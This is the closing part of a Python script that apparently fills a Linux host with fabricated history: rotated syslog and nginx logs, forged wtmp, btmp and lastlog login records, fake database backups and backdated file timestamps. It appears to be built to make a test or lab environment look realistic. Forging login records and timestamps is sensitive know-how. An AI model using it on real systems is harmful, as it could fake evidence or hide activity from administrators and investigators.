    traditional = bool(re.search(r"^\s*\$ActionFileDefaultTemplate\s+RSYSLOG_Traditional",
                                 conf, re.M))
    adm = group_id("adm")
    owner = re.search(r"^\s*\$FileOwner\s+(\S+)", conf, re.M)
    group = re.search(r"^\s*\$FileGroup\s+(\S+)", conf, re.M)
    mode = re.search(r"^\s*\$FileCreateMode\s+(\d+)", conf, re.M)
    syslog_owner = (uid_of(owner.group(1)) if owner else 0,
                    group_id(group.group(1), adm) if group else adm)
    syslog_mode = int(mode.group(1), 8) if mode else 0o640
    per_file: dict[str, list[tuple[float, str]]] = {"auth": [], "syslog": [], "cron": [],
                                                     "kern": []}
    for ln in lines:
        text = fmt_syslog(ln.t, args.hostname, ln.tag, ln.msg, traditional) + "\n"
        for f in ln.files:
            per_file[f].append((ln.t, text))
    logdir = Path("/var/log")
    names = {"auth": "auth.log", "syslog": "syslog", "cron": "cron.log", "kern": "kern.log"}
    if traditional:  # Ubuntu 22.04 has no cron.log
        per_file["syslog"] += per_file.pop("cron")
        names.pop("cron")
    for key, name in names.items():
        write_rotated(logdir / name, per_file[key], "weekly", 4, since, now, syslog_owner,
                      syslog_mode)

    write_nginx(past, since_days=15, curl_version=curl_version, owner=(uid_of("www-data"), adm))
    write_utmp(past, reboots, kernel_rel)
    write_backups(rng, web, now)

    # Histories end with their owner's last session; root's with the last reboot.
    for user, end in finals.items():
        hist = Path(pwd.getpwnam(user).pw_dir) / ".bash_history"
        if hist.exists():
            set_mtime(hist, end - rng.randint(5, 40))
    if reboots:
        set_mtime("/root/.bash_history", reboots[-1] - rng.randint(60, 200))
    for d in ("/var/log", "/var/log/nginx", "/var/log/inventory", "/var/backups/inventory",
              "/var/backups"):
        p = Path(d)
        if p.is_dir():
            newest = max((c.lstat().st_mtime for c in p.iterdir()), default=now)
            set_mtime(p, min(newest, now))


def read(path: str) -> str:
    try:
        return Path(path).read_text(errors="replace")
    except OSError:
        return ""


def write_nginx(past: Past, since_days: int, curl_version: str,
                owner: tuple[int, int]) -> None:
    logdir = Path("/var/log/nginx")
    if not logdir.is_dir():
        return
    rng, now = past.rng, past.now
    since = now - since_days * DAY
    access: list[tuple[float, str]] = []
    errors: list[tuple[float, str]] = []
    worker = rng.randint(700, 900)

    def acc(t: float, ip: str, req: str, status: int, size: int, ref: str, ua: str) -> None:
        d = dt.datetime.fromtimestamp(t, UTC)
        access.append((t, f'{ip} - - [{d:%d/%b/%Y:%H:%M:%S} +0000] "{req}" {status} {size} '
                          f'"{ref}" "{ua}"\n'))

    # /opt/scripts/healthcheck.sh every 10 minutes, from deploy's crontab.
    restarts = [t for lg in past.logins for t, c in lg.sudo if "restart inventory" in c]
    t = int(since // 600 + 1) * 600
    conn = rng.randint(1000, 5000)
    while t < now:
        at = t + rng.uniform(0.6, 1.2)
        conn += rng.randint(1, 30)
        if any(0 < at - r < 4 for r in restarts):
            acc(at, "127.0.0.1", "GET /health HTTP/1.1", 502, 157, "-", f"curl/{curl_version}")
            d = dt.datetime.fromtimestamp(at, UTC)
            errors.append((at, f"{d:%Y/%m/%d %H:%M:%S} [error] {worker}#{worker}: *{conn} "
                               "connect() failed (111: Connection refused) while connecting to "
                               "upstream, client: 127.0.0.1, server: _, request: \"GET /health "
                               "HTTP/1.1\", upstream: \"http://127.0.0.1:8000/health\", host: "
                               "\"127.0.0.1\"\n"))
        else:
            acc(at, "127.0.0.1", "GET /health HTTP/1.1", 200, 37, "-", f"curl/{curl_version}")
        t += 600
    # Office users during working hours.
    day = day_start(since)
    chrome = rng.randint(118, 126)
    while day < now:
        d = dt.datetime.fromtimestamp(day, UTC)
        if d.weekday() < 5:
            for _ in range(rng.randint(2, 9)):
                t = day + rng.randint(8 * 3600, 18 * 3600)
                ip = rng.choice(past.office)
                ua = rng.choice(BROWSER_UA).format(v=chrome, f=chrome + 2)
                host = "http://inventory.internal"
                acc(t, ip, "GET / HTTP/1.1", 302, 199, "-", ua)
                acc(t + 0.2, ip, "GET /login HTTP/1.1", 200, 731, "-", ua)
                acc(t + 0.4, ip, "GET /static/css/style.css HTTP/1.1", 304, 0,
                    f"{host}/login", ua)
                acc(t + 6, ip, "POST /login HTTP/1.1", 302, 189, f"{host}/login", ua)
                acc(t + 6.3, ip, "GET / HTTP/1.1", 200, rng.randint(5200, 9800),
                    f"{host}/login", ua)
                for k in range(rng.randint(0, 6)):
                    q = rng.choice(["bolt", "M8", "pallet", "SKU-10", "hinge", "cable", "tape"])
                    acc(t + 20 + 15 * k, ip, f"GET /?q={q} HTTP/1.1", 200,
                        rng.randint(900, 4000), f"{host}/", ua)
                if rng.random() < 0.2:
                    acc(t + 140, ip, "GET /export.csv HTTP/1.1", 200, rng.randint(3000, 6000),
                        f"{host}/", ua)
                if rng.random() < 0.03:  # a slow export now and then
                    conn += rng.randint(1, 500)
                    e = dt.datetime.fromtimestamp(t + 200, UTC)
                    acc(t + 200, ip, "GET /export.csv HTTP/1.1", 504, 167, f"{host}/", ua)
                    errors.append((t + 200, f"{e:%Y/%m/%d %H:%M:%S} [error] {worker}#{worker}: "
                                   f"*{conn} upstream timed out (110: Connection timed out) while "
                                   f"reading response header from upstream, client: {ip}, "
                                   'server: _, request: "GET /export.csv HTTP/1.1", upstream: '
                                   '"http://127.0.0.1:8000/export.csv", host: '
                                   f'"inventory.internal", referrer: "{host}/"\n'))
        day += DAY
    # Internet background noise.
    t = since
    while t < now:
        t += rng.expovariate(1 / 1500)
        ip = public_ip(rng)
        ua = rng.choice(BOT_UA)
        for _ in range(1 if rng.random() < 0.7 else rng.randint(2, 6)):
            req, status, size = rng.choice(BOT_REQUESTS)
            req = req.replace("{ip}", public_ip(rng))
            if req.startswith("\\x16") or req.startswith("CONNECT"):
                acc(t, ip, req, status, size, "-", "-")
            else:
                acc(t, ip, req, status, size, "-", ua)
            t += rng.uniform(0.1, 3)
    access = [a for a in access if a[0] < now]
    errors = [e for e in errors if e[0] < now]
    write_rotated(logdir / "access.log", access, "daily", 14, since, now, owner, 0o640)
    write_rotated(logdir / "error.log", errors, "daily", 14, since, now, owner, 0o640)


def write_utmp(past: Past, reboots: list[float], kernel: str) -> None:
    logdir = Path("/var/log")
    utmp_gid = group_id("utmp")
    records: list[tuple[float, bytes]] = []
    for r in reboots:
        records.append((r - 25, utmp_record(RUN_LVL, 0, "~~", "~~", "shutdown", kernel, r - 25)))
        records.append((r, utmp_record(BOOT_TIME, 0, "~", "~~", "reboot", kernel, r)))
        records.append((r + 8, utmp_record(RUN_LVL, 53, "~", "~~", "runlevel", kernel, r + 8)))
    records = [rec for rec in records if rec[0] > past.install]
    last: dict[str, tuple[float, str, str]] = {}
    pid = 2000
    for n, login in enumerate(lg for lg in past.logins if lg.tty):
        if login.start >= past.now:
            continue
        line = f"pts/{n % 2}"
        pid += past.rng.randint(50, 4000)
        records.append((login.start, utmp_record(USER_PROCESS, pid, line, line[-4:], login.user,
                                                 login.ip, login.start)))
        if login.end < past.now:
            records.append((login.end, utmp_record(DEAD_PROCESS, pid, line, line[-4:], "", "",
                                                   login.end)))
        last[login.user] = (login.start, line, login.ip)
    records.sort(key=lambda r: r[0])
    wtmp = logdir / "wtmp"
    wtmp.write_bytes(b"".join(rec for _, rec in records))
    os.chown(wtmp, 0, utmp_gid)
    os.chmod(wtmp, 0o664)
    set_mtime(wtmp, records[-1][0] if records else past.now)

    # btmp rotates monthly (rotate 1): this month's failures, and last month's in btmp.1.
    month = dt.datetime.fromtimestamp(past.now, UTC).replace(day=1, hour=6, minute=25,
                                                             second=20, microsecond=0)
    cut = month.timestamp()
    fails = sorted(past.fails)
    for name, sel in (("btmp", [f for f in fails if f[0] >= cut]),
                      ("btmp.1", [f for f in fails if f[0] < cut])):
        p = logdir / name
        if name == "btmp.1" and not sel:
            p.unlink(missing_ok=True)
            continue
        p.write_bytes(b"".join(utmp_record(LOGIN_PROCESS, past.rng.randint(1000, 4000000),
                                           "ssh:notty", "", u[:32], ip, t) for t, u, ip in sel))
        os.chown(p, 0, utmp_gid)
        os.chmod(p, 0o660)
        set_mtime(p, sel[-1][0] if sel else cut)

    lastlog = logdir / "lastlog"
    with lastlog.open("r+b" if lastlog.exists() else "w+b") as fh:
        for user, (t, line, host) in last.items():
            fh.seek(uid_of(user) * LASTLOG.size)
            fh.write(LASTLOG.pack(int(t), line.encode(), host.encode()))
    os.chown(lastlog, 0, utmp_gid)
    os.chmod(lastlog, 0o664)
    if last:
        set_mtime(lastlog, max(v[0] for v in last.values()))


def write_backups(rng: random.Random, web: float, now: float) -> None:
    """Nightly database copies (kept 14 days) and the cron job's own log since the app went live."""
    db = Path("/srv/www/inventory/instance/inventory.db")
    dest = Path("/var/backups/inventory")
    log = Path("/var/log/inventory/backup.log")
    if not db.exists() or not dest.is_dir():
        return
    payload = gzip.compress(db.read_bytes(), compresslevel=9, mtime=0)
    size_k = max(1, (len(payload) + 1023) // 1024)
    deploy = pwd.getpwnam("deploy")
    for old in dest.glob("inventory-*.db.gz"):
        old.unlink()
    out = []
    day = day_start(web) + DAY
    last = now
    while day < now:
        start = day + 2 * 3600 + 30 * 60 + rng.uniform(0.5, 1.5)
        if start >= now:
            break
        end = start + rng.uniform(0.3, 1.2)
        d = dt.datetime.fromtimestamp(start, UTC)
        e = dt.datetime.fromtimestamp(end, UTC)
        name = f"inventory-{d:%Y%m%d-%H%M}.db.gz"
        out.append(f"{d:%Y-%m-%d %H:%M:%S} backup start\n")
        out.append(f"{e:%Y-%m-%d %H:%M:%S} backup done: {size_k}.0K {dest}/{name}\n")
        if now - end < 15 * DAY:
            p = dest / name
            p.write_bytes(payload)
            os.chown(p, deploy.pw_uid, deploy.pw_gid)
            os.chmod(p, 0o644)
            set_mtime(p, end)
        last = end
        day += DAY
    log.write_text("".join(out))
    os.chown(log, deploy.pw_uid, group_id("adm"))
    os.chmod(log, 0o640)
    set_mtime(log, last)
    for extra in ("/var/backups/dpkg.status.0", "/var/backups/apt.extended_states.0"):
        p = Path(extra)
        if p.exists():
            # The daily dpkg cron job copies these the morning after they change.
            changed = p.stat().st_mtime
            set_mtime(p, min(day_start(changed) + DAY + 6 * 3600 + 25 * 60 + 3, now))
    shutil.chown(dest, deploy.pw_name, deploy.pw_name)


if __name__ == "__main__":
    main()
